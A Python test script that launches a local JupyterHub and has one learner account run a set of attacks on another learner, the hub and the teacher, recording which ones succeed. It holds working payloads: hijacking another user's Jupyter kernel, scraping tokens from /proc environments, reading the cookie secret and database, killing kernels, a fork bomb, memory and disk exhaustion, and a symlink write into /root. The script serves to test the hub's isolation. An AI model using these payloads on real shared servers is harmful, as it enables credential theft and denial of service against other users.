"""What one learner of a hub may try, in a notebook, and whether it worked.

With the argument apart, this starts a hub that gives learners accounts, with
together one that gives all of them the starter's, and prints those attacks
that succeeded. Ada attacks; Ben, the hub and the teacher are attacked. What
ada's code says of itself counts for nothing: each row looks from outside.
"""

import asyncio
import contextlib
import json
import os
import secrets
import subprocess
import sys
from pathlib import Path

import psutil

import load_hub
from accounts import DISK_BYTES, MEMORY_BYTES, TASKS
from load_hub import enter, hub, kernel, run

ROOT = Path(__file__).parents[2]
MARK = "hub-attack"  # in the name of each file that an attack leaves
SHARED = ("/tmp", "/var/tmp", "/dev/shm")
SITE = str(Path(psutil.__file__).parents[1])
SLACK = 1.1

# Ada's code begins with this, and knows all paths.
PREAMBLE = """
import os, pathlib, signal, subprocess, sys, time, urllib.request
def loot(text):
    with open("loot.txt", "a", errors="replace") as file:
        file.write(str(text))
def take(path):
    loot(open(str(path).format(**at), errors="replace").read())
def add(path):
    open(path.format(**at), "a").write("ada")
open("tried", "w").close()
"""
FILL = f"""
for where in (".", *{SHARED}):
    try:
        for i in range(26):
            with open(f"{{where}}/{MARK}-{{i}}", "wb") as file:
                file.write(bytes(50_000_000))
    except OSError:
        pass
"""
HOG = """
hog = "block = b'1' * 1_500_000_000; import time; time.sleep(8)"
for one in [subprocess.Popen([sys.executable, "-c", hog]) for _ in range(4)]:
    one.wait()
"""
FORK = """
try:
    for _ in range(700):
        subprocess.Popen(["sleep", "20"])
finally:
    time.sleep(5)
"""
KERNELS = """
import glob
from jupyter_client import BlockingKernelClient
places = at["ben"] + "/.local/share/jupyter/runtime", "/tmp/jupyter"
for file in [f for p in places for f in glob.glob(p + "/kernel-*.json")]:
    client = BlockingKernelClient(connection_file=file)
    client.load_connection_file()
    client.start_channels()
    client.execute(f"if 'ben' in __import__('os').getcwd():"
                   f" open('{at['mark']}', 'w')")
time.sleep(3)
"""
LOGIN = """
import json
wanted = {"auth": {"username": "ben", "password": at["room"], "otp": "ben?"}}
loot(urllib.request.urlopen(urllib.request.Request(
    at["hub"] + "/hub/api/users/ben/tokens", json.dumps(wanted).encode(),
    {"Content-Type": "application/json"})).read())
"""
ENVIRONS = """
for file in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        take(file)
    except OSError:
        pass
"""
KILL = """
for file in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
    pid = int(file.parent.name)
    try:
        if "ipykernel" in file.read_text() and pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(at["pid"], signal.SIGKILL)
"""
LINKED = "let the hub write through a link"
LINK = """
os.remove("01_numpy.ipynb")
os.symlink("/root/" + at["mark"] + "-link", "01_numpy.ipynb")
"""


class Scene:
    """A hub with Ada and Ben in it, seen from outside."""

    def __init__(self, address, process, apart):
        self.process = process
        self.work = Path(process.environ()["HUB_FOLDER"])
        homes = self.work / ("learners" if apart else "homes")
        self.ada, self.ben = homes / "ada", homes / "ben"
        self.filled = self.forks = 0  # at most
        (self.kernel,) = [
            one
            for one in process.children(recursive=True)
            if one.environ().get("JUPYTERHUB_USER") == "ben"
            and "ipykernel" in " ".join(one.cmdline())
        ]
        self.paths = {
            "ben": str(self.ben),
            "hub": address,
            "mark": MARK,
            "pid": self.kernel.pid,
            "room": process.environ()["HUB_PASSWORD"],
            "site": SITE,
            "root": str(ROOT),
            "work": str(self.work),
        }

    def file(self, path):
        """Return a file that an attack names."""
        return Path(path.format(**self.paths))

    def kernel_is_gone(self):
        """Tell whether Ben's kernel has ended."""
        with contextlib.suppress(psutil.NoSuchProcess):
            return self.kernel.status() == psutil.STATUS_ZOMBIE
        return True

    def looted(self, *texts):
        """Tell whether any of these is among what Ada has."""
        loot = self.ada / "loot.txt"
        have = loot.read_text(errors="replace") if loot.exists() else ""
        return any(text in have for text in texts)

    def secrets(self):
        """Return what is in the environments of Ben, the hub and the proxy."""
        found = [self.process.environ()["HUB_TEACHER_PASSWORD"]]
        for one in self.process.children(recursive=True):
            environ = one.environ()
            if environ.get("JUPYTERHUB_USER") != "ada":
                for name in ("JUPYTERHUB_API_TOKEN", "CONFIGPROXY_AUTH_TOKEN"):
                    found += filter(None, [environ.get(name)])
        return found

    def marked(self, *folders):
        """Return the files that an attack has left in folders."""
        return [f for place in folders for f in Path(place).glob(f"{MARK}*")]

    def disk(self):
        """Return the bytes on the machine's disk, and in what all share."""
        used = subprocess.check_output(["du", "-sxB1", self.work], text=True)
        files = self.marked(*SHARED)
        return int(used.split()[0]) + sum(f.stat().st_size for f in files)

    def clean(self):
        """Remove what an attack has written; it must have been tried."""
        (self.ada / "tried").unlink()
        (self.ada / "loot.txt").unlink(missing_ok=True)
        for file in self.marked(self.ada, "/root", SITE, *SHARED):
            file.unlink()


def reading(path):
    """Return how a file is read, and what tells that it was."""
    return f"take({path!r})", lambda scene: scene.looted(
        scene.file(path).read_text(errors="replace")[:15]
    )


def writing(path):
    """Return how a file is changed or made, and what tells that it was."""
    return (
        f"add({path!r})",
        lambda scene: (
            scene.file(path).exists()
            and scene.file(path).read_bytes().endswith(b"ada")
        ),
    )


# what is tried, how, and what tells from outside that it worked
ATTACKS = {
    "read another's file": reading("{ben}/secret.txt"),
    "change another's file": writing("{ben}/secret.txt"),
    "put a file into another's home": writing("{ben}/planted"),
    "run code in another's kernel": (
        KERNELS,
        lambda scene: (scene.ben / MARK).exists(),
    ),
    "read the cookie secret": reading("{work}/cookie_secret"),
    "read the database": reading("{work}/jupyterhub.sqlite"),
    "change the database": writing("{work}/jupyterhub.sqlite"),
    "take tokens from environments": (
        ENVIRONS,
        lambda scene: scene.looted(*scene.secrets()),
    ),
    "log in as another": (
        LOGIN,
        lambda scene: scene.looted('"user": "ben"'),
    ),
    "write into the starter's home": writing("/root/{mark}"),
    "write into site-packages": writing("{site}/{mark}"),
    "read the solutions": reading("{root}/notebooks/01_numpy.ipynb"),
    "read the teacher's copies": reading(
        "{root}/_build/classroom/teacher/01_numpy.ipynb"
    ),
    "fill the disk": (
        FILL,
        lambda scene: scene.disk() > DISK_BYTES * SLACK,
    ),
    "fill the memory": (
        HOG,
        lambda scene: scene.filled > MEMORY_BYTES * SLACK,
    ),
    "fork without end": (FORK, lambda scene: scene.forks > TASKS),
    "kill another's kernel": (KILL, Scene.kernel_is_gone),
}


async def watch(scene):
    """Note how much memory all fill, and how many processes they have."""
    while True:
        below = len(scene.process.children(recursive=True))
        scene.forks = max(scene.forks, below)
        filled = await asyncio.to_thread(load_hub.memory, scene.process)
        scene.filled = max(scene.filled, filled)
        await asyncio.sleep(0.5)


async def answers(socket):
    """Tell whether a kernel still works, and may write."""
    with contextlib.suppress(load_hub.Failed, TimeoutError):
        async with asyncio.timeout(60):
            await run(socket, ["open('alive', 'w').write('x' * 99999)"])
        return True
    return False


async def attack(apart):
    """Try all on a hub; return what succeeded."""
    room = secrets.token_hex(8)
    worked = []
    with hub(["ada", "ben"], room, apart) as (address, process):
        ben = enter(address, "ben", room, "word of ben")
        ada = enter(address, "ada", room, "word of ada")
        async with ben as his, ada as hers:
            async with kernel(*his, "01_numpy") as victim:
                secret = "open('secret.txt', 'w').write('of ben alone')"
                await run(victim, [secret])
                scene = Scene(address, process, apart)
                watcher = asyncio.create_task(watch(scene))
                for name, (code, succeeded) in ATTACKS.items():
                    start = f"at = {scene.paths}\n{PREAMBLE}"
                    with contextlib.suppress(load_hub.Failed, TimeoutError):
                        async with kernel(*hers, "01_numpy") as socket:
                            async with asyncio.timeout(60):
                                await run(socket, [start + code])
                    if succeeded(scene) or not await answers(victim):
                        worked.append(name)
                    scene.clean()
                watcher.cancel()
                async with kernel(*hers, "01_numpy") as socket:
                    await run(socket, [start + LINK])
                assert (scene.ada / "01_numpy.ipynb").is_symlink()
            await hers[0].delete("/hub/api/users/ada/server")
        async with enter(address, "ada", room, "word of ada"):
            if scene.marked("/root"):
                worked.append(LINKED)
            scene.clean()
    return worked


if __name__ == "__main__":
    load_hub.go_private()
    os.environ["HUB_TEACHER_PASSWORD"] = secrets.token_hex(16)
    print(json.dumps(asyncio.run(attack(sys.argv[1] == "apart"))))
